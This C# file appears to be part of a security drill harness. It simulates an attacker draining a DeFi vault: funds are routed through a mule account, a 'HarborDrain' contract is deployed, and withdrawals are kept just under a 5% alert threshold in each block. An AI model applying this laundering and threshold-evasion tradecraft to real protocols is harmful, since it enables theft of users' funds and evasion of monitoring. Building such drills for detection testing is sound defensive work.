using Firebreak.Ethereum;

namespace Firebreak.Drills;

/// <summary>
/// The attacker: a new account, paid through a mule, that deploys a contract and drains the vault in small bites, one in every block. Stops when the
/// vault is nearly empty, or for good after a strike that fails.
/// </summary>
public sealed class Attack
{
    /// <summary>Part of the vault that one strike takes: below the 5 % at which simple limits wake up.</summary>
    private const double Bite = 0.042;

    /// <summary>Part of the vault that is not worth another strike.</summary>
    private const double Crumbs = 0.05;

    private const double Capital = 0.16;

    /// <summary>What people pay who are in some hurry: 3 gwei.</summary>
    private static readonly UInt256 PriorityFee = 3_000_000_000UL;

    private readonly DrillChain _chain;
    private readonly DrillArtifacts _artifacts;
    private readonly HarborProtocol _harbor;
    private readonly DrillAccount _source;
    private readonly DrillAccount _mule;
    private readonly DrillAccount _attacker;
    private readonly List<Strike> _strikes = [];
    private Address _contract;
    private UInt256 _valueAtRisk;

    /// <param name="source">An account with money that nobody connects with the attacker.</param>
    public Attack(DrillChain chain, DrillArtifacts artifacts, HarborProtocol harbor, DrillAccount source, int seed)
    {
        (_chain, _artifacts, _harbor, _source) = (chain, artifacts, harbor, source);
        _mule = DrillAccount.Named("mule", seed);
        _attacker = DrillAccount.Named("attacker", seed);
    }

    /// <summary>What has happened so far.</summary>
    public DrillTruth Truth => new(
        _strikes.Count > 0 ? _strikes[0].Block : 0,
        _attacker.Address,
        _contract,
        [_source.Address, _mule.Address],
        _harbor.Vault,
        _valueAtRisk,
        [.. _strikes]);

    /// <summary>Moves the money in two hops and deploys the contract: three blocks, none of them hostile yet.</summary>
    /// <param name="betweenBlocks">Sends what other people do in the meantime.</param>
    public async Task PrepareAsync(Func<CancellationToken, Task> betweenBlocks, CancellationToken cancellationToken)
    {
        _valueAtRisk = await _harbor.ValueAsync(_chain, cancellationToken);
        var capital = Part(_valueAtRisk, Capital);
        var pocketMoney = HarborCalls.Ether(2);
        DrillCall[] hops = [DrillCall.Pay(_mule.Address, capital + pocketMoney + pocketMoney), DrillCall.Pay(_attacker.Address, capital + pocketMoney)];
        await betweenBlocks(cancellationToken);
        await _chain.DoAsync(_source, hops[0], cancellationToken);
        await betweenBlocks(cancellationToken);
        await _chain.DoAsync(_mule, hops[1], cancellationToken);
        await betweenBlocks(cancellationToken);
        var creation = DrillCall.Create(_artifacts.Code("HarborDrain", "constructor(address)", _harbor.Vault)) with { Value = capital };
        var created = await _chain.DoAsync(_attacker, creation, cancellationToken);
        _contract = created.Created!.Value;
    }

    /// <summary>Strikes in one block after the other, then takes the money home.</summary>
    /// <param name="betweenBlocks">Sends what other people do in the meantime.</param>
    public async Task RunAsync(Func<CancellationToken, Task> betweenBlocks, CancellationToken cancellationToken)
    {
        _valueAtRisk = await _harbor.ValueAsync(_chain, cancellationToken);
        var crumbs = Part(_valueAtRisk, Crumbs);
        while (await _harbor.ValueAsync(_chain, cancellationToken) > crumbs)
        {
            var strike = await SendStrikeAsync(cancellationToken);
            await betweenBlocks(cancellationToken);
            if (!await ConcludeAsync(strike, cancellationToken))
            {
                break;
            }
        }

        await _chain.DoAsync(_attacker, Hostile(HarborCalls.Retire), cancellationToken);
    }

    private async Task<PendingStrike> SendStrikeAsync(CancellationToken cancellationToken)
    {
        var vault = await _harbor.ValueAsync(_chain, cancellationToken);
        var purse = await _chain.BalanceAsync(_contract, cancellationToken);
        var capital = UInt256.Min(purse, Part(_valueAtRisk, Capital)).ToDouble();
        var part = StrikePlan.StakeFor(Bite * _valueAtRisk.ToDouble(), vault.ToDouble(), capital) / _valueAtRisk.ToDouble();
        var stake = UInt256.Min(purse, Part(_valueAtRisk, part));
        var call = Hostile(HarborCalls.Strike, stake, (UInt256)(uint)StrikePlan.Cycles);
        return new PendingStrike(await _chain.SendAsync(_attacker, call, cancellationToken), purse);
    }

    /// <summary>Whether it worked.</summary>
    private async Task<bool> ConcludeAsync(PendingStrike pending, CancellationToken cancellationToken)
    {
        var receipt = await _chain.ReceiptAsync(pending.Transaction, cancellationToken);
        var purse = await _chain.BalanceAsync(_contract, cancellationToken);
        _strikes.Add(new Strike(receipt.Transaction, receipt.Block, receipt.Succeeded, purse - pending.PurseBefore));
        return receipt.Succeeded;
    }

    private DrillCall Hostile(AbiFunction function, params object[] arguments) =>
        DrillCall.Call(_contract, function, arguments) with { PriorityFee = PriorityFee, Gas = 1_500_000 };

    /// <summary>To one part in a million, which is all that an attacker's rule of thumb needs.</summary>
    private static UInt256 Part(UInt256 whole, double part) => UInt256.MulDiv(whole, (UInt256)(ulong)(part * 1_000_000), 1_000_000u);

    private sealed record PendingStrike(Hash256 Transaction, UInt256 PurseBefore);
}
